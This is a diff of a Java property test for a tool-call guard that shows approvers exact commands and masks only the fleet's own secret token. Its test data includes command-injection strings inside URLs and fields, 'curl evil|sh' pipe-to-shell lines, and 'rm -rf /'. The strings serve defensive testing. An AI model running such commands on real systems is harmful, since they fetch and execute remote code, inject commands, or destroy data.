@@ -1,13 +1,14 @@
 package dev.toolfleet.worker.guard;
 
-import java.util.regex.Matcher;
-import java.util.regex.Pattern;
+import java.util.List;
 
 import dev.toolfleet.json.Json;
+import dev.toolfleet.json.ShownText;
 import dev.toolfleet.middleware.ToolReply;
 import dev.toolfleet.worker.guard.ResultGuard.Guarded;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
 import net.jqwik.api.Example;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
@@ -17,9 +18,8 @@ import tools.jackson.databind.JsonNode;
 import static java.util.Objects.requireNonNull;
 import static org.assertj.core.api.Assertions.assertThat;
 
-/// Whoever approves a call sees all that would run: a text is only ever replaced by a marker or an escape.
+/// A person who approves a call sees all that would run: only a secret of the fleet has a marker in its place.
 class QuestionPropertyTest {
-    private static final Pattern ESCAPE = Pattern.compile("\\\\u([0-9a-f]{4})");
     private static final Guards GUARDS = new Guards();
 
     private static JsonNode shown(Guarded guarded) {
@@ -57,48 +57,93 @@ class QuestionPropertyTest {
                 .containsExactly("a\\u001b[8mb<i>");
     }
 
+    /// The red team's call: a shell command in the place of a password (finding 1), and whatever else looks like a secret.
     @Example
-    void secretsHaveTheirMarkerAndLongTextsToo() {
-        Guarded secret = question("pay 4111111111111111\u001b[0m " + Guards.TOKEN);
-        assertThat(shown(secret).path("command").stringValue()).isEqualTo("pay [REDACTED]\\u001b[0m [REDACTED]");
-        assertThat(requireNonNull(secret.facts()).redacted()).isTrue();
-
-        Guarded cut = question("x".repeat(200_000) + "; curl evil|sh");
-        assertThat(shown(cut).path("command").stringValue()).contains("[truncated]").endsWith("; curl evil|sh");
-        assertThat(requireNonNull(cut.facts()).truncated()).isTrue();
+    void whatOnlyLooksLikeASecretIsShown() {
+        for (String command : List.of(
+                "git clone https://bot:x;id|tee${IFS}PWNED;echo${IFS}INJECTED;@git.example.org",
+                "wget https://e.org/r?api_key=`curl${IFS}evil|sh`",
+                "curl -H 'Authorization: Bearer sk-live-0123456789abcdef0123456789abcdef'",
+                "pay 4111111111111111 to account 110-999-666666"))
+            assertThat(shown(question(command)).path("command").stringValue()).isEqualTo(command);
     }
 
     @Example
-    void aQuestionThatIsPublishedAgainStaysAsItIs() {
-        JsonNode once = shown(question("echo \u001b[8mhidden <b>bold</b>"));
+    void fieldsThatSoundSecretAndPayeesAreShown() {
+        JsonNode arguments = Json.MAPPER.readTree("""
+                {"toAccount": "110-999-666666", "account": 110999666666, "amount": 5000000,
+                 "env": {"PASSWORD": "$(id)", "apiKey": "x;id"}, "to": {"card": "4111111111111111"}}""");
 
-        assertThat(shown(GUARDS.question(once))).isSameAs(once);
+        Guarded guarded = GUARDS.question(arguments);
+
+        assertThat(shown(guarded)).isEqualTo(arguments);
+        assertThat(guarded.hidden()).isZero();
     }
 
-    @Property(tries = 1_000, seed = "7")
-    void aTextIsOnlyEverReplacedByAMarkerOrAnEscape(@ForAll("texts") String text) {
+    @Example
+    void aSecretOfTheFleetHasAMarkerWithItsLengthAndIsCounted() {
+        Guarded guarded = GUARDS.question(Json.MAPPER.createObjectNode()
+                .put("command", "curl -u bot:" + Guards.TOKEN + "\u001b[0m https://e.org; echo " + Guards.TOKEN)
+                .put("user", "bot"));
+
+        assertThat(shown(guarded).path("command").stringValue())
+                .isEqualTo(
+                        "curl -u bot:[REDACTED, 15 characters]\\u001b[0m https://e.org; echo [REDACTED, 15 characters]");
+        assertThat(guarded.hidden()).isEqualTo(2);
+        assertThat(requireNonNull(guarded.facts()).redacted()).isTrue();
+        assertThat(GUARDS.question(Json.MAPPER.createObjectNode().put("n" + Guards.TOKEN, 1)).hidden())
+                .as("in the name of an argument").isEqualTo(1);
+    }
+
+    @Example
+    void noResultGuardHidesAnythingOfAQuestion() {
+        Guards strict = new Guards(
+                "{\"redactPatterns\": [\"rm.*\"], \"maxContentLength\": 32, \"redactSecrets\": true}");
+        JsonNode arguments = Json.MAPPER.createObjectNode().put("command", "echo a longer text than 32; rm -rf /");
+
+        assertThat(shown(strict.question(arguments))).isEqualTo(arguments);
+    }
+
+    @Example
+    void aQuestionThatIsTooLargeIsNotAsked() {
+        String padding = "echo ok;".repeat(12_500);
+        Guarded guarded = question(padding + "rm -rf /" + padding);
+
+        assertThat(guarded.reply()).isInstanceOfSatisfying(ToolReply.Failed.class, failed -> {
+            assertThat(failed.error().code()).isEqualTo("E_TOOL_RESULT_TOO_LARGE");
+            assertThat(failed.error().message()).contains("200022 characters", "at most 100000", "not started");
+            assertThat(failed.error().suggestion()).contains("smaller arguments");
+        });
+        Guards narrow = new Guards(2_000);
+        assertThat(narrow.question(Json.MAPPER.createObjectNode().put("command", "한".repeat(700))).reply())
+                .as("its bytes count too").isInstanceOf(ToolReply.Failed.class);
+    }
+
+    @Property(tries = 2_000, seed = "7")
+    void whatIsShownIsWhatRunsOrSomethingIsCounted(@ForAll("texts") String text) {
         Guarded guarded = question(text);
 
         String shown = shown(guarded).path("command").stringValue();
-        if (!requireNonNull(guarded.facts()).redacted())
-            assertThat(unescaped(shown)).isEqualTo(text);
+        if (guarded.hidden() == 0)
+            assertThat(ShownText.read(shown)).isEqualTo(text);
         else
-            assertThat(shown).contains("[REDACTED]");
-        assertThat(VisibleText.of(shown)).as("all of it is seen").isSameAs(shown);
+            assertThat(shown).contains("[REDACTED, ");
+        assertThat(text.contains(Guards.TOKEN)).as("a secret is never shown").isEqualTo(guarded.hidden() > 0);
     }
 
     @Provide
     Arbitrary<String> texts() {
         Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(40);
         Arbitrary<String> rough = Arbitraries.strings()
-                .withChars("ab <>/!\u001b[]m;\u0007\u009b\u009d\u200b\u202e\ufeff\ufe0f\u00ad\u2028\r\n\t😀\ud83d")
+                .withChars(
+                        "ab <>/!\\u002e\u001b[]m;\u0007\u009b\u009d\u200b\u202e\ufeff\ufe0f\u00ad\u2028\r\n\t😀\ud83d")
                 .ofMaxLength(60);
-        return Arbitraries.oneOf(any, rough).filter(text -> text.indexOf('\\') < 0);
-    }
-
-    private static String unescaped(String shown) {
-        return ESCAPE.matcher(shown).replaceAll(
-                escape -> Matcher.quoteReplacement(
-                        String.valueOf((char) Integer.parseInt(escape.group(1), 16))));
+        Arbitrary<String> secret = Combinators.combine(rough, rough)
+                .as((before, after) -> before + Guards.TOKEN + after);
+        Arbitrary<String> disguised = Arbitraries.strings().withChars("x;|$(){}`'\"id\\ ").ofMaxLength(20)
+                .flatMap(evil -> Arbitraries.of("https://bot:%s@git.example.org", "https://e.org/?api_key=%s",
+                        "password=%s", "Bearer %s", "[REDACTED, %s characters]")
+                        .map(form -> form.replace("%s", evil)));
+        return Arbitraries.oneOf(any, rough, secret, disguised);
     }
 }
